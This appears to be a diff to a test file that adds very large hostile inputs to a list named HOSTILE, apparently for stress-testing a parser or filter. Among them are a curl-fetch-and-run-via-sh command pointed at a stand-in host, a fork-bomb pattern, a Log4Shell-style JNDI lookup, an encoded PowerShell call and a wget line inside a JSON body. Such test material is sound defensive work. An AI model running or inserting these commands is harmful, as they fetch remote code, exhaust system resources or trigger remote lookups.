@@ -168,6 +168,16 @@ HOSTILE = [
     b" " * 1_000_000,
     b"<" * 1_000_000,
     b"://" * 330_000,
+    b"printf '" + b"\\x41" * 249_000 + b"'|sh",
+    b"\\x41" * 250_000,
+    b"eval 'eval " * 90_000,
+    b"powershell -enc " + b"QQBB" * 240_000,
+    b"a|" * 500_000,
+    b"a&&" * 330_000,
+    b"sh -c \"$(curl http://a.cc/x)\";" * 30_000,
+    b"f(){ f; };" * 100_000,
+    b"${jndi:ldap://a.cc/" + b"${lower:a}" * 99_000 + b"}",
+    b"POST / HTTP/1.1\r\n\r\n{" + b'"a":"wget http://a.cc/x",' * 38_000 + b"}",
 ]  # fmt: skip
 
 
